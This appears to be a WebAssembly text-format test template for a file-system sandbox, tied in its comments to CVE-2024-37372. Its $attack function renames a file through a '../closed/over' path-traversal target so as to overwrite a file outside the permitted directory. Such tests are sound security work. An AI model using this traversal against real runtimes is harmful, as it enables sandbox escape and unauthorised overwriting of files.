;; Moves a file of its own out, over another.
;; stands for: CVE-2024-37372
;; grant: above
;; path: ../closed/over or closed/over
(data (i32.const 512) "NOTE")
(func $attack (result i32)
  (call $rename (i32.const 3) (i32.const 512) (i32.const $NOTELEN) (i32.const 3) (i32.const 64) (i32.const $LEN)))
